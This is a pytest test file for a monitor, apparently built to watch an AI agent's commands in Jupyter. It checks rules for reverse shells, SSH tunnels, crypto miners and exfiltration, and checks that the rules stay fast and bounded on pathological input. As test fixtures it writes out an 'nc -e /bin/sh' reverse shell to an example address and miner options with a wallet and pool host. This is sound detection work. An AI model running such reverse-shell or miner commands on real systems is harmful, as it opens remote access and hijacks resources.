"""Our own rules over commands: fixtures of each rule, an attack corpus, a benign corpus, and what a finding says."""

from __future__ import annotations

import importlib.util
import sys
from collections import Counter
from pathlib import Path
from typing import TYPE_CHECKING, cast

import pytest

from jupyter_agentwatch.detect.commands import UNREAD, CommandDetector
from jupyter_agentwatch.detect.decoding import MAX_TEXT
from jupyter_agentwatch.detect.engine import Engine
from jupyter_agentwatch.detect.model import RULE_FAILED
from jupyter_agentwatch.detect.own import COMMAND_RULES, OWN_RULES, own_detectors
from jupyter_agentwatch.detect.rule import SEVERITIES, Hit, Ruleset
from jupyter_agentwatch.detect.shellscript import read_script
from jupyter_agentwatch.detect.tunnels import TUNNEL
from jupyter_agentwatch.detect.unwrap import invocations
from jupyter_agentwatch.testing.builders import event

if TYPE_CHECKING:
    from collections.abc import Iterable

    from jupyter_agentwatch.detect import Draft
    from jupyter_agentwatch.detect.unwrap import Invocation
    from jupyter_agentwatch.events import AnyEvent

HERE = Path(__file__).parent
FIXTURES = HERE / "fixtures" / "detect"
HIGH = SEVERITIES.index("high")
MISSES: frozenset[str] = frozenset()
"""Lines of the attack corpus that are known to be missed."""


def drafts(line: str) -> list[Draft]:
    """Return what a fresh detector says of a script, as it is when bash is started with it."""
    detector = CommandDetector(COMMAND_RULES)
    return list(detector.feed(event("exec", basis="claimed", path="/bin/bash", argv=["bash", "-c", line])))


def worst(found: Iterable[Draft]) -> int:
    """Return the rank of the greatest severity, -1 for none."""
    return max((SEVERITIES.index(draft.severity) for draft in found), default=-1)


def rule_lines() -> list[tuple[str, bool, str]]:
    """Return (rule, whether it must hold, line) of every fixture."""
    found, rule = [], ""
    for line in (FIXTURES / "rules.txt").read_text("utf-8").splitlines():
        if line.startswith("["):
            rule = line[1:-1]
        elif line[:2] in ("+ ", "- "):
            found.append((rule, line[0] == "+", line[2:].replace("⏎", "\n")))
    return found


def attacks() -> list[tuple[str, str]]:
    """Return (family, line) of every attack."""
    lines = (FIXTURES / "attacks.txt").read_text("utf-8").splitlines()
    return [cast("tuple[str, str]", tuple(line.split("\t", 1))) for line in lines if line and line[0] != "#"]


def benign() -> list[str]:
    """Return the benign corpus."""
    spec = importlib.util.spec_from_file_location("benign_lines", HERE / "benign_lines.py")
    assert spec is not None
    assert spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return cast("list[str]", module.benign_lines())


@pytest.mark.parametrize(("rule", "holds", "line"), rule_lines(), ids=lambda value: str(value)[:40])
def test_each_rule_holds_where_it_must_and_nowhere_else(rule: str, holds: bool, line: str) -> None:
    """A rule's positive lines give it, its negative ones do not."""
    assert (rule in {draft.rule for draft in drafts(line)}) is holds


def test_each_rule_over_commands_has_fixtures() -> None:
    """Every rule has at least five positive and five negative lines."""
    counts = Counter((rule, holds) for rule, holds, _ in rule_lines())
    wanted = {rule.id for each in COMMAND_RULES for rule in each.rules}
    assert {rule for rule, _ in counts} == wanted
    assert {key: n for key, n in counts.items() if n < 5} == {}


def test_attacks_are_caught_at_high() -> None:
    """At least 95 % of the attack corpus give a finding of severity high or above; the misses are those listed."""
    missed = {line for _, line in attacks() if worst(drafts(line)) < HIGH}
    assert len(attacks()) >= 150
    assert missed == MISSES
    assert len(missed) <= 0.05 * len(attacks())


def test_ordinary_lines_are_left_alone() -> None:
    """Of at least 2,000 benign lines, at most one in a thousand gives a finding of severity high or above."""
    lines = benign()
    assert len(lines) >= 2000
    alarms = [line for line in lines if worst(drafts(line)) >= HIGH]
    assert len(alarms) <= len(lines) // 1000, alarms


def test_looking_for_marks_first_loses_nothing() -> None:
    """The quick look that decides whether a text is read at all never hides a finding of severity high."""
    detector = CommandDetector(COMMAND_RULES)
    for line in [*(line for _, line in attacks()), *(line for _, holds, line in rule_lines() if holds)]:
        slow = {
            hit.rule.id for hit in detector.hits(["bash", "-c", line]) if (hit.severity or hit.rule.severity) == "high"
        }
        assert slow <= {draft.rule for draft in drafts(line)}, line


def test_a_script_is_a_hint_and_an_exec_is_the_truth() -> None:
    """What stands in a script, or was asked for, is never critical; the exec of it is."""
    detector = CommandDetector(COMMAND_RULES)
    argv = ["nc", "-e", "/bin/sh", "203.0.113.5", "4444"]
    step = event("step", op="start", step=1, argv=["bash", "-c", " ".join(argv)])
    real = event("exec", basis="claimed", step=1, pid=7, seq=3, path="/usr/bin/nc", argv=argv)
    assert [draft.severity for draft in detector.feed(step)] == ["high"]
    (found,) = detector.feed(real)
    assert (found.severity, found.family, found.technique, found.step, found.pid, found.evidence) == (
        "critical",
        "shell",
        "T1059.004",
        1,
        7,
        (3,),
    )


def test_one_cause_gives_one_finding() -> None:
    """The same command again in the same step says nothing new; in another step it does."""
    detector = CommandDetector(COMMAND_RULES)
    argv = ["ssh", "-R", "1:a:2", "h"]
    first = event("exec", basis="claimed", step=1, path="/usr/bin/ssh", argv=argv)
    later = event("exec", basis="claimed", step=2, path="/usr/bin/ssh", argv=argv)
    assert [len(list(detector.feed(each))) for each in (first, first, later)] == [1, 0, 1]


def test_a_renamed_program_is_known_by_what_it_is_told() -> None:
    """`argv[0]` and the path may be anything."""
    detector = CommandDetector(COMMAND_RULES)
    argv = ["sshd", "-o", "203.0.113.9:443", "-u", "0x71C7656EC7ab88b098defB751B7401B5f6d8976F", "-p", "x"]
    (found,) = detector.feed(event("exec", basis="claimed", path="/tmp/x/python-helper", argv=argv))
    assert (found.rule, found.severity) == ("mining.miner_options", "critical")


def test_records_after_the_fact_are_not_read_twice() -> None:
    """Only claims and steps carry arguments."""
    detector = CommandDetector(COMMAND_RULES)
    assert list(detector.feed(event("exec", basis="post", exe="/usr/bin/ssh"))) == []
    assert list(detector.feed(event("step", op="end", argv=["ssh", "-R", "1:a:2", "h"]))) == []


def test_a_check_that_fails_is_told_and_the_others_go_on() -> None:
    """It is named in one HIGH finding, and goes on to find in other commands; so do other checks."""

    def breaks(run: Invocation) -> Iterable[Hit]:
        yield Hit(TUNNEL.rules[1], "before it broke")
        if "-q" not in run.argv:
            raise RecursionError

    broken = Ruleset(rules=(), by_name={"ssh": (breaks,)})
    detector = CommandDetector((broken, *COMMAND_RULES))
    argv = ["ssh", "-R", "1:a:2", "h"]
    first = list(detector.feed(event("exec", basis="claimed", seq=5, step=1, path="/usr/bin/ssh", argv=argv)))
    assert [each.rule for each in first] == ["tunnel.ssh_forward", RULE_FAILED]
    assert (first[1].severity, first[1].family, first[1].evidence) == ("high", "monitor", (5,))
    assert "breaks: RecursionError" in first[1].title
    second = detector.feed(event("exec", basis="claimed", step=2, path="/usr/bin/ssh", argv=[*argv, "-v"]))
    assert [each.rule for each in second] == ["tunnel.ssh_forward"]
    third = detector.feed(event("exec", basis="claimed", step=3, path="/usr/bin/ssh", argv=[*argv, "-q"]))
    assert [each.rule for each in third] == [TUNNEL.rules[1].id, "tunnel.ssh_forward"]


@pytest.mark.parametrize(
    ("path", "argv", "is_found"),
    [
        ("/usr/bin/ssh", ["ssh", *["-v"] * 47], True),
        ("/bin/busybox", ["busybox", "nc", *["-v"] * 46], True),
        ("/project/x", ["xmrig", *["-v"] * 47], False),
        ("/usr/bin/xmrig", ["x", *["-v"] * 47], True),
        ("/usr/bin/gcc", ["gcc", *["a.o"] * 47], False),
        ("/bin/sh", ["sh", "-c", "ssh " + "-v " * 340], False),
    ],
)
def test_arguments_that_nobody_has_read_are_told(path: str, argv: list[str], is_found: bool) -> None:
    """Options of a tunnel or a miner may stand behind what is recorded; what a shell starts has a record of its own."""
    claim = event("exec", basis="claimed", path=path, argv=argv, argv_truncated=True)
    rules = [each.rule for each in CommandDetector(COMMAND_RULES).feed(claim)]
    assert (UNREAD.id in rules) == is_found
    whole = event("exec", basis="claimed", path=path, argv=argv)
    assert UNREAD.id not in [each.rule for each in CommandDetector(COMMAND_RULES).feed(whole)]


class Clock:
    """CPU time that stands still until a check spends some."""

    def __init__(self) -> None:
        self.now_ns = 0

    def __call__(self) -> int:
        return self.now_ns


def told_slow(spent_ns: int, times: int) -> tuple[list[str], list[str], tuple[str, ...]]:
    """Give ssh commands to an engine, of which one check spends so much on each of the first ones.

    Returns the rules of what the last of them and one after them gave, and the detectors that are out of service.
    """
    clock = Clock()

    def dawdles(run: Invocation) -> Iterable[Hit]:
        clock.now_ns += spent_ns if "slow" in run.argv else 0
        return ()

    slow = Ruleset(rules=(), by_name={"ssh": (dawdles,)})
    engine = Engine([CommandDetector((slow, *COMMAND_RULES))], clock=clock, limit_ns=250_000_000, strikes=3)

    def rules(number: int, *more: str) -> list[str]:
        argv = ["ssh", "-R", f"{number}:a:2", "h", *more]
        exec_ = event("exec", basis="claimed", seq=number, step=number, path="/usr/bin/ssh", argv=argv)
        return [each.rule for each in engine.feed(exec_)]

    last = [rules(number, "slow") for number in range(1, times + 1)][-1]
    return last, rules(times + 1, "slow"), engine.disabled


@pytest.mark.parametrize(
    ("spent_ms", "times", "is_out"),
    [(400, 1, False), (400, 2, False), (400, 3, True), (200, 9, False), (2100, 1, True)],
    ids=["one strike", "two strikes", "three strikes", "within the limit", "absurd at once"],
)
def test_a_slow_check_is_put_out_of_service_alone(spent_ms: int, times: int, is_out: bool) -> None:
    """After three slow commands or an absurd one; the detector, and every other check of that program, goes on."""
    last, after, disabled = told_slow(spent_ms * 1_000_000, times)
    assert last == (["tunnel.ssh_forward", RULE_FAILED] if is_out else ["tunnel.ssh_forward"])
    # What is not out yet may get its last strike now; what is out says nothing more.
    assert after[0] == "tunnel.ssh_forward"
    assert not (is_out and RULE_FAILED in after)
    assert disabled == ()


def test_a_slow_check_is_back_when_a_person_lets_the_watch_go_on() -> None:
    """After `restore` it is asked again, and needs all its strikes again."""
    clock = Clock()

    def dawdles(run: Invocation) -> Iterable[Hit]:
        clock.now_ns += 3_000_000_000 if "slow" in run.argv else 0
        yield Hit(TUNNEL.rules[1], " ".join(run.argv))

    slow = Ruleset(rules=(), by_name={"ssh": (dawdles,)})
    engine = Engine([CommandDetector((slow,))], clock=clock, limit_ns=250_000_000, strikes=3)

    def rules(step: int, *more: str) -> list[str]:
        argv = ["ssh", f"h{step}", *more]
        return [
            each.rule for each in engine.feed(event("exec", basis="claimed", step=step, path="/bin/ssh", argv=argv))
        ]

    assert rules(1, "slow") == [TUNNEL.rules[1].id, RULE_FAILED]
    assert rules(2) == []
    engine.restore()
    assert rules(3) == [TUNNEL.rules[1].id]


def test_a_text_that_is_long_to_read_is_nobodys_fault() -> None:
    """Time that no check spends puts nothing out of service, however often."""
    clock = Clock()

    class Reader(CommandDetector):
        """One that takes long before any check is asked."""

        def feed(self, event: AnyEvent) -> Iterable[Draft]:
            """Read slowly."""
            clock.now_ns += 9_000_000_000
            return super().feed(event)

    engine = Engine([Reader(COMMAND_RULES)], clock=clock, limit_ns=250_000_000, strikes=3)
    for number in range(1, 9):
        argv = ["ssh", "-R", f"{number}:a:2", "h"]
        (found,) = engine.feed(event("exec", basis="claimed", step=number, path="/usr/bin/ssh", argv=argv))
        assert found.rule == "tunnel.ssh_forward"
    assert engine.disabled == ()


def test_every_rule_of_our_own_is_complete() -> None:
    """Each has an id of its family, a technique, a reason and what it takes by mistake."""
    families: Counter[str] = Counter()
    for rule in OWN_RULES:
        families[rule.family] += 1
        assert rule.technique.startswith("T1")
        assert rule.rationale.endswith(".")
        assert rule.false_positives
        assert rule.severity in SEVERITIES
    assert set(families) == {
        "mining",
        "tunnel",
        "shell",
        "probing",
        "exfiltration",
        "diversion",
        "tampering",
        "payment",
    }
    assert len({rule.id for rule in OWN_RULES}) == len(OWN_RULES)
    assert len({detector.name for detector in own_detectors()}) == len(own_detectors())


SLOW = {
    "a set read anew for each character": "echo " + "a" * 40 + "|tr -d '" + "\\0-\\377" * 1300 + "'|sh; eval (x",
    "here-documents without an end": "cat <<a ; " * 400 + "\n" + "b\n" * 6000,
}


@pytest.mark.parametrize("text", SLOW.values(), ids=SLOW)
def test_no_command_keeps_the_monitor_busy(text: str) -> None:
    """What is done for one command is bounded, whatever its text: here by the calls that Python makes."""
    detector = CommandDetector(COMMAND_RULES)
    calls = 0

    def count(*_: object) -> None:
        nonlocal calls
        calls += 1

    step = event("step", op="start", argv=["sh", "-c", text])
    before = sys.getprofile()
    sys.setprofile(count)
    try:
        found = list(detector.feed(step))
    finally:
        sys.setprofile(before)
    assert calls < 1_000_000
    assert [each for each in found if each.family == "monitor"] == []


def test_quotes_without_a_bracket_at_their_end_are_read_in_one_way() -> None:
    """An expression that tried every way to part them would go on for longer than this universe."""
    code = "[" + '" ' * 500
    assert [run.name for run in invocations(["ruby", "-e", code])] == ["ruby"]
    assert [run.name for run in invocations(["python3", "-c", "f(" + "'a' " * 60 + ")"])] == ["python"]


def test_what_variables_add_is_bounded_for_a_whole_script() -> None:
    """A substitution has no allowance of its own."""
    pipelines = read_script("a=" + "x" * 8000 + "; " + "$(: $a $a) " * 700)
    words = [word for pipeline in pipelines for command in pipeline for word in command.words]
    assert sum(map(len, words)) < 4 * MAX_TEXT


@pytest.mark.parametrize("text", ["cat notes|echo %s|sh", "cat notes | cat | printf '%%s' '%s' | bash"])
def test_what_ignores_its_input_is_read_all_the_same(text: str) -> None:
    """`… | echo TEXT | sh` runs TEXT, whatever came before."""
    found = CommandDetector(COMMAND_RULES).hits(["sh", "-c", text % "ssh -R 1:a:2 h"])
    assert "tunnel.ssh_forward" in [hit.rule.id for hit in found]


LONG_IN_VAIN = {
    "the name of a build": ["a" + ".1" * 120 + "#"],
    "a file's name in a script": ["sh", "-c", "a" + "-x86_64" * 2000 + "# $'a'"],
    "first halves without a second one": ["sh", "-c", "gunzip|1" * 2000],
    "blanks in a program": ["python3", "-c", "popen" + " " * 8000],
    "redirections": ["sh", "-c", "printf %s '" + ">" * 4000 + "'" + "|rev" * 30 + ";'authorized_key"],
}


@pytest.mark.parametrize("argv", LONG_IN_VAIN.values(), ids=LONG_IN_VAIN)
def test_no_expression_looks_for_what_is_not_there_in_every_way(argv: list[str]) -> None:
    """Each of these texts took seconds, the first two would take for ever: they are read to their end all the same."""
    step = event("step", op="start", argv=argv)
    assert [each for each in CommandDetector(COMMAND_RULES).feed(step) if each.family == "monitor"] == []
